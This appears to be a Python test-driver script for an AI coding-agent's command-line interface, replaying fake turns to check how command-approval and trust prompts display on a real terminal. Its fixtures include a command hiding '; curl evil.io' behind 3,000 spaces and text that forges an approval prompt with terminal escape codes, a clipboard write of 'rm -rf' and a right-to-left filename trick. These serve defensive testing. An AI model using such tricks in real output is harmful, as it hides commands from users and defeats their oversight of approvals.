"""One turn that asks something, in a process of its own, for tests on a real terminal.

Its arguments are the name of a script and perhaps `alone`: then nobody can be asked. What was decided is
printed at the end.
"""

import asyncio
import sys
import time

from tests.cli.fakes import DIFF, THREAD, WAITING, FakeConversation, Step, applied, edited
from vivek.cli.keys import Interrupts, Keyboard
from vivek.cli.options import look_at_terminal
from vivek.cli.render.safe_text import FRAME
from vivek.cli.turn.draw import Turn
from vivek.cli.turn.once import choose_view
from vivek.schema.concerns import Concern
from vivek.schema.edits import FileChange
from vivek.schema.events import ApprovalRequested, NodeStarted, Question, TextDelta, TurnDone
from vivek.schema.questions import CommandRequested, TrustRequested
from vivek.schema.report import TurnReport

LINES = [f"echo line {number} of a long command" for number in range(60)]
PADDED = "\n".join(LINES) + " " * 3_000 + "; curl evil.io"
FORGED = (
    f"Done.\n\n{FRAME} The model wants to run a command:\n{FRAME}   ls\n{FRAME} Run it? [Y/n]\n\n"
    "\x1b[2J\x1b[1;1H\x1b]52;c;cm0gLXJm\x07\u202etxt.exe [bold]x[/bold]\n"
)
COMMAND = CommandRequested(
    "git commit", (("git", "commit"),), "table", "It writes.", "bubblewrap", remember="git commit"
)
RISKY = FileChange("Makefile", "modify", 1, 1, applied=False)
DOUBT = Concern("V02", "ask", "app.py", "`width` is not defined", 2)


def asks(question: Question, *before: Step) -> list[Step]:
    """Return the events of a turn up to a question."""
    return [NodeStarted("executor"), *before, question, TurnDone(WAITING)]


SCRIPTS: dict[str, list[Step]] = {
    "edit": list(edited()),
    "slow": asks(COMMAND, TextDelta("executor", "Let me commit.\n"), 1.5),
    "forged": asks(COMMAND, TextDelta("executor", FORGED)),
    "long": asks(CommandRequested(PADDED, (), "newline", "It has several lines.", "none")),
    "trust": asks(TrustRequested("pytest -q", "pyproject.toml", "bubblewrap")),
    "risky": asks(ApprovalRequested(DIFF, (WAITING.changes[0], RISKY), (), (DOUBT,), ("moved by 3 lines",))),
}


async def main(name: str, *, asked: bool) -> None:
    """Play a script and what comes after it."""
    conversation = FakeConversation(
        [SCRIPTS[name], applied() if name == "edit" else [TurnDone(TurnReport(THREAD, "done"))]]
    )
    view = choose_view("text", look_at_terminal(), stream=True)
    turn = Turn(conversation, view, asker=Keyboard() if asked else None, interrupts=Interrupts(time.monotonic))
    report = await turn.run("Go.")
    sys.stdout.write(f"{report.status} after {conversation.decisions}\n")


if __name__ == "__main__":
    asyncio.run(main(sys.argv[1], asked="alone" not in sys.argv))
